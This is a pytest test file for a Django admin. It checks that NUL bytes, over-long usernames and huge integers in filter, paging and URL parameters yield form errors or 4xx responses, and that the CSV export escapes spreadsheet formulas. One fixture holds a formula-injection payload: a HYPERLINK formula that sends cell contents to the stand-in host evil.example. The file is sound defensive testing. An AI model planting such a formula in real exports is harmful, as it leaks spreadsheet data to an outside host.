"""Issue 23: hostile values in the admin (login, filters, paging, the board, trends and the CSV export) get
the form's error, a 4xx or the page: never a 500, for any staff user, Support included."""

import csv
import io

import pytest
from django.utils import timezone

from integration.models import Order
from tests.factories import StoreFactory

pytestmark = pytest.mark.django_db

NUL = "a%00b"


def test_h4_a_300_character_username_gets_the_forms_error(client):
    resp = client.post("/admin/login/", {"username": "u" * 300, "password": "whatever-it-is"})
    assert resp.status_code == 200, resp.content[:300]
    assert "at most 150 characters" in resp.content.decode()


def test_h4_a_nul_in_the_username_gets_the_forms_error(client):
    resp = client.post("/admin/login/", {"username": "ad\x00min", "password": "whatever-it-is"})
    assert resp.status_code == 200, resp.content[:300]
    assert "Null characters are not allowed" in resp.content.decode()


@pytest.mark.parametrize(
    "url",
    [
        f"/admin/integration/order/?state__exact={NUL}",
        f"/admin/integration/order/?store__id__exact={NUL}",
        f"/admin/integration/order/?store_q={NUL}",
        "/admin/integration/order/?store__id__exact=99999999999999999999",
        f"/admin/integration/order/?cancel={NUL}",
        f"/admin/integration/order/?q={NUL}",
        f"/admin/integration/order/?attention={NUL}",
        f"/admin/integration/order/?placed_at__gte={NUL}",
        f"/admin/integration/order/?older={NUL}",
        "/admin/integration/order/?older=2026-01-01T00:00:00Z~99999999999999999999",
        f"/admin/integration/order/?o={NUL}",
        "/admin/integration/order/?p=99999999999999999999",
        "/admin/integration/order/?o=1&p=99999999999999999999",
        f"/admin/integration/order/export.csv?state__exact={NUL}",
        f"/admin/integration/order/export.csv?store_q={NUL}",
        f"/admin/integration/outboundcall/?status__exact={NUL}",
        f"/admin/integration/outboundcall/?kind__exact={NUL}",
        f"/admin/integration/webhookevent/?status__exact={NUL}",
        f"/admin/integration/webhookevent/?type={NUL}",
        f"/admin/integration/store/?state__exact={NUL}",
        "/admin/integration/store/?p=99999999999999999999",
        f"/admin/integration/menu/?state__exact={NUL}",
        f"/admin/board/?store={NUL}",
        "/admin/board/?store=99999999999999999999",
        f"/admin/trends/?store={NUL}",
        "/admin/trends/?store=99999999999999999999",
        f"/admin/trends/?range={NUL}",
        "/admin/integration/order/%00/change/",
        "/admin/integration/order/99999999999999999999/change/",
    ],
)
def test_h5_hostile_filter_values_are_4xx_or_the_page_for_support(support, client, url):
    Order.objects.create(store=StoreFactory(), placed_at=timezone.now(), total=100)
    before = list(Order.objects.values_list("pk", "state", "updated_at"))
    resp = client.get(url)
    assert resp.status_code < 500, url
    assert resp.status_code in (200, 302, 400, 404), (url, resp.status_code)
    assert list(Order.objects.values_list("pk", "state", "updated_at")) == before


def test_h11_the_csv_export_neutralises_formulas(support, client):
    store = StoreFactory(name="@SUM(1+1)")
    Order.objects.create(
        store=store,
        placed_at=timezone.now(),
        total=1250,
        customer_name='=HYPERLINK("http://evil.example/?x="&A1,"click")',
        customer_phone="+1555 0100",
        failure_reason="-2+3",
        reason_code="\tTAB",
    )
    resp = client.get("/admin/integration/order/export.csv")
    assert resp.status_code == 200
    rows = list(csv.DictReader(io.StringIO(b"".join(resp.streaming_content).decode())))
    assert rows[0]["customer_name"] == "'" + '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    assert rows[0]["store"] == "'@SUM(1+1)"
    assert rows[0]["customer_phone"] == "'+1555 0100"
    assert rows[0]["failure_reason"] == "'-2+3"
    assert rows[0]["reason_code"] == "'\tTAB"
    assert rows[0]["total"] == "12.50"
